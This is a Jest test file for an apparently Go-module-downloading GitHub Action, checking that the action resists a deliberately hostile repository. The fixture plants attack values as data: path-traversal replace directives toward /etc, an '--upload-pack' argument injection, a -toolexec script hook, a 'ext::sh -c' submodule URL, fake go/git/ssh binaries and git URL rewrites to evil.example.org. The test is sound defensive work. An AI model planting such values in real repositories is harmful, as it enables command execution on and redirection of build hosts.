import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, expect, test } from '@jest/globals'
import { startJob } from '../support/action.ts'
import { startUpstreamWith } from '../support/fault-upstream.ts'
import { DOWNLOADS, freshModule, needing } from '../support/module-job.ts'
import { goSum, proxyFiles } from '../support/module-tree.ts'
import { type Names, namesOf, ownAddress } from '../support/names.ts'
import { BOB, type Repository } from '../support/repository.ts'
import { emptyModuleCache, type Scene, setScene } from '../support/scene.ts'

const EVIL = 'evil.example.org'
const MINUTES = 5 * 60_000
/** The image needs only a harmless module beside the hostile ones. */
const DOCKERFILE = DOWNLOADS.replace('COPY go.mod go.sum', 'COPY clean/go.mod clean/go.sum')

let scene: Scene
let names: Names
let dir: string
const doors: Server[] = []
const closing: (() => unknown)[] = []
let visits = 0

beforeAll(async () => {
  scene = await setScene()
  dir = mkdtempSync(join(tmpdir(), 'hostile-'))
  names = namesOf({ [EVIL]: ownAddress(9) })
  for (const port of [22, 80, 443]) {
    const door = createServer((socket) => {
      visits++
      socket.destroy()
    })
    doors.push(door)
    await new Promise<void>((resolve) => door.listen(port, ownAddress(9), resolve))
  }
}, 900_000)

afterAll(async () => {
  for (const door of doors) door.close()
  names.close()
  rmSync(dir, { recursive: true, force: true })
  await scene.close()
})

afterEach(async () => {
  for (const close of closing.splice(0).reverse()) await close()
  visits = 0
})

/** A repository whose every file of Go's asks for a foreign host, leads out of it, or runs a program; Docker copies none of it. */
const hostile = (): {
  repository: Repository
  head: string
  wire: string
  good: ReturnType<typeof freshModule>
} => {
  const good = freshModule()
  const { repository } = needing([good], DOCKERFILE)
  for (const name of ['go.mod', 'go.sum'])
    repository.write(`clean/${name}`, readFileSync(repository.path(name), 'utf8'))
  const wire = join(dir, `wire-${process.pid}-${Date.now()}`)
  const script = `#!/bin/sh\ntouch ${wire}\n`
  repository.write(
    'go.mod',
    `module example.org/app

go 1.26

toolchain go1.999.0

require (
\t${good.path} ${good.version}
\t${EVIL}/lib.git v1.0.0
\texample.org/there v1.0.0
)

replace example.org/there => ../../../../../../etc

replace ${EVIL}/lib.git => ${EVIL}/other.git v1.0.0
`,
  )
  const zero = `h1:${Buffer.alloc(32).toString('base64')}`
  const paths = [
    '../../../../etc',
    '--upload-pack=x',
    '/etc',
    'example.org/../../x',
    `${EVIL}/lib.git@v1/../..`,
  ]
  repository.write(
    'go.sum',
    `${goSum([good])}${paths.map((path) => `${path} v1.0.0 ${zero}\n${path} ../v1/go.mod ${zero}\n`).join('')}`,
  )
  repository.write(
    'go.work',
    `go 1.26\n\ntoolchain go1.999.0\n\nuse .\nuse ../../../../../../etc\n\nreplace ${EVIL}/lib.git => /etc\n`,
  )
  const settings = `GOFLAGS=-toolexec=${repository.path('trip.sh')}\nGOPROXY=https://${EVIL}\nGOSUMDB=off\nGOPRIVATE=*\n`
  for (const name of ['go.env', '.config/go/env', 'env']) repository.write(name, settings)
  for (const name of ['trip.sh', 'go', 'git', 'ssh', 'bin/go']) repository.write(name, script)
  repository.write(
    '.gitmodules',
    `[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% ${wire}\n[submodule "y"]\n\tpath = y\n\turl = https://${EVIL}/y.git\n`,
  )
  repository.write('.netrc', `machine ${EVIL} login a password b\n`)
  repository.write('.gitconfig', `[url "https://${EVIL}/"]\n\tinsteadOf = https://\n`)
  repository.write('tools/go.mod', `module example.org/tools\n\ngo 1.26\n\nrequire ${EVIL}/tool.git v1.0.0\n`)
  repository.write('tools/go.sum', `${EVIL}/tool.git v1.0.0 ${zero}\n`)
  closing.push(() => repository.close())
  return { repository, head: repository.commit(BOB, 'Help'), wire, good }
}

test.each(['push', 'pull request of a fork'])(
  'a hostile repository runs nothing on the host and has no foreign host asked: %s',
  async (event) => {
    const { repository, head, wire, good } = hostile()
    const upstream = await startUpstreamWith(proxyFiles([good]))
    const modules = emptyModuleCache()
    closing.push(
      () => upstream.close(),
      () => modules.close(),
    )
    const isFork = event !== 'push'
    const env = {
      ...scene.engine.env,
      ...scene.results.env,
      GITHUB_REPOSITORY: `octocat/hostile-${process.pid}`,
      GITHUB_SHA: head,
      GOMODCACHE: modules.dir,
      GOPROXY: upstream.url,
      HOME: mkdtempSync(join(dir, 'home-')),
      ...(isFork ? { GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/3/merge' } : {}),
    }
    const base = { sha: repository.base, repo: { full_name: 'octocat/hello' } }
    const fork = { number: 3, head: { sha: head, repo: { full_name: 'mallory/hello', fork: true } }, base }
    const job = startJob(repository.dir, env, isFork ? { pull_request: fork } : {}, {
      through: names.through,
    })
    closing.push(() => job.close())
    const main = await job.run({ context: '.', 'github-token': '' })
    const post = await job.run({}, main.state)
    if (main.code !== 0) throw new Error(main.log)
    expect(post.code).toBe(0)
    expect(existsSync(wire)).toBe(false)
    expect(visits).toBe(0)
    expect(upstream.asked.filter((path) => path.startsWith(EVIL)).length).toBeGreaterThan(0)
    expect(upstream.asked.filter((path) => /\.\.|toolchain|etc/.test(path))).toEqual([])
    expect(readdirSync(modules.dir).filter((name) => name !== 'cache' && name !== 'example.org')).toEqual([])
    const store = join(modules.dir, 'cache', 'download')
    expect(existsSync(store) ? readdirSync(store) : []).toEqual(['example.org'])
  },
  MINUTES,
)

test('the doors of the foreign host tell a visit', async () => {
  const { createConnection } = await import('node:net')
  await new Promise((resolve) => createConnection(443, ownAddress(9)).once('close', resolve))
  expect(visits).toBe(1)
})
